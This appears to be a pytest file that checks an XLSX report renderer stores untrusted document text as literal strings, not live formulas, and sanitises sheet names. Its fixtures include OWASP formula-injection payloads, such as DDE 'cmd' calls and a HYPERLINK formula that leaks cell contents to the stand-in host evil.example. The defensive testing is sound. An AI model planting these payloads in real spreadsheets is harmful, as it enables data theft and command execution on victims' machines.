"""Formula injection: document text in an XLSX report is stored as text, never as a live formula.

Every report and batch summary goes through one XLSX renderer; these build a report from hostile
text, render it, and open the produced file with openpyxl to look at each cell's stored type.
"""

from __future__ import annotations

import io
import re
import zipfile
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from fastapi_app.reports.model import DocumentFacts, Headline, KeyValueRow, Money, Report, ReportTable
from fastapi_app.reports.renderers.registry import render
from fastapi_app.reports.renderers.xlsx import sheet_name

# OWASP's CSV-injection payloads, XlsxWriter's own triggers ({= array formulas, URLs) and the
# characters that hide them (tab, CR, a leading space is not one: Excel does not evaluate " =1").
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{=SUM(A1:A3)}",
    "\t=1+1",
    "\r=1+1",
    "=\n1+1",
    "http://evil.example/login",
    "mailto:ceo@example.com",
]
HOSTILE_FILENAME = '=HYPERLINK("http://evil.example/?f="&B2,"report").xlsx'


def _report(title: str = "=1+1 title", tables: list[ReportTable] | None = None) -> Report:
    return Report(
        version=1,
        title=title,
        headline=Headline(
            document_number="=INV()",
            counterparty="@evil",
            total=Money(amount=1_210_000, currency="=KRW()", text="+1,210,000"),
        ),
        document=DocumentFacts(
            filename=HOSTILE_FILENAME,
            file_type="pdf",
            mime_type="application/pdf",
            size_bytes=1234,
            sha256="0" * 64,
            processed_at="2026-11-29T18:00:00+00:00",
            metadata={"=Author()": '=HYPERLINK("http://evil.example","x")', "Producer": "-1+1"},
        ),
        key_values=[KeyValueRow(key=text, value=text, normalized=text, where=f"sheet {text}") for text in HOSTILE],
        tables=tables
        if tables is not None
        else [ReportTable(title="=cmd|' /C calc'!A0", header=HOSTILE, rows=[HOSTILE, ["150,000", 42, 2.5, None]])],
    )


def _open(data: bytes) -> Any:
    return load_workbook(io.BytesIO(data))


def _as_excel_reads(value: Any) -> Any:
    """OOXML stores characters XML cannot hold (CR here) as _xHHHH_; Excel decodes them on reading,
    openpyxl does not. (No hostile text here contains a literal "_x", so decoding is unambiguous.)"""
    if not isinstance(value, str):
        return value
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), value)


def _text_cells(sheet: Worksheet) -> dict[str, Any]:
    return {cell.coordinate: cell for row in sheet.iter_rows() for cell in row if cell.value is not None}


def test_no_cell_of_a_hostile_report_is_a_formula() -> None:
    data = render(_report(), "xlsx")
    workbook = _open(data)
    types = {
        (sheet.title, cell.coordinate): cell.data_type
        for sheet in workbook.worksheets
        for cell in _text_cells(sheet).values()
    }
    assert types and "f" not in types.values(), [k for k, v in types.items() if v == "f"]
    # Nothing in the package is a formula or a hyperlink, whatever openpyxl makes of it.
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/sheet"):
                xml = package.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml and "<hyperlink" not in xml, name
        assert not any("hyperlinks" in name or "externalLink" in name for name in package.namelist())


def test_hostile_text_is_stored_as_exactly_the_same_string() -> None:
    workbook = _open(render(_report(), "xlsx"))
    summary = workbook["Summary"]
    assert summary["A1"].value == "=1+1 title" and summary["A1"].data_type == "s"
    facts = {row[0].value: row[1] for row in summary.iter_rows(min_row=2) if row[0].value}
    assert facts["파일 / File"].value == HOSTILE_FILENAME and facts["파일 / File"].data_type == "s"
    assert facts["문서 번호 / Number"].value == "=INV()" and facts["문서 번호 / Number"].data_type == "s"
    assert facts["=Author()"].value == '=HYPERLINK("http://evil.example","x")'
    assert facts["Producer"].value == "-1+1" and facts["Producer"].data_type == "s"
    label = next(row[0] for row in summary.iter_rows() if row[0].value == "=Author()")
    assert label.data_type == "s"
    total = next(row for row in summary.iter_rows() if row[0].value == "합계 / Total")
    assert total[1].value == 1_210_000 and total[1].data_type == "n"  # numbers stay numbers
    assert total[2].value == "=KRW()" and total[2].data_type == "s"

    key_values = workbook["Key-Values"]
    for row, text in enumerate(HOSTILE, start=2):
        for column in "ABC":
            cell = key_values[f"{column}{row}"]
            assert (_as_excel_reads(cell.value), cell.data_type) == (text, "s"), (cell.coordinate, text)
        assert _as_excel_reads(key_values[f"D{row}"].value) == f"sheet {text}"

    table = workbook.worksheets[3]
    assert [(_as_excel_reads(c.value), c.data_type) for c in table[1]] == [(text, "s") for text in HOSTILE]
    assert [(_as_excel_reads(c.value), c.data_type) for c in table[2]] == [(text, "s") for text in HOSTILE]
    assert [c.value for c in table[3][:3]] == [150_000, 42, 2.5]
    assert {c.data_type for c in table[3][:3]} == {"n"}


@pytest.mark.parametrize(
    "title",
    [
        "=cmd|' /C calc'!A0",
        "[evil]:*?/\\ sheet",
        "'quoted'",
        "'",
        "''''",
        "a" * 27 + "'bcdef",  # an apostrophe left at the end by truncation
        "x" * 40,
        "📊" * 20,  # 40 UTF-16 units: Excel counts those, not code points
        "History",  # reserved by Excel
        "history",
        "tab\there\nnew\x00line\x7f\x85",
        "",
        "   ",
    ],
)
def test_sheet_names_from_the_document_are_valid_excel_names(title: str) -> None:
    data = render(_report(tables=[ReportTable(title=title, header=["h"], rows=[["v"]])]), "xlsx")
    workbook = _open(data)
    name = workbook.sheetnames[3]
    assert 1 <= len(name.encode("utf-16-le")) // 2 <= 31
    assert not re.search(r"[\[\]:*?/\\\x00-\x1f\x7f-\x9f]", name)
    assert not name.startswith("'") and not name.endswith("'")
    assert name.lower() != "history"
    assert workbook.worksheets[3]["A2"].value == "v"


def test_sheet_names_stay_unique_ignoring_case_after_sanitising() -> None:
    titles = ["Data?", "DATA*", "data/", "Summary", "x" * 40, "x" * 41, "X" * 40]
    tables = [ReportTable(title=t, header=["h"], rows=[[t]]) for t in titles]
    workbook = _open(render(_report(tables=tables), "xlsx"))
    names = workbook.sheetnames
    assert len({n.lower() for n in names}) == len(names) == 3 + len(titles)
    # Each table's sheet holds its own rows, in order.
    assert [ws["A2"].value for ws in workbook.worksheets[3:]] == titles


def test_sheet_name_helper_directly() -> None:
    used: set[str] = set()
    assert sheet_name("Summary", used) == "Summary"
    assert sheet_name("summary", used) == "summary~2"
    assert sheet_name("'=cmd|' /C calc'!A0'", used) == "=cmd|' _C calc'!A0"
    assert sheet_name("\u2028", used) == "_"
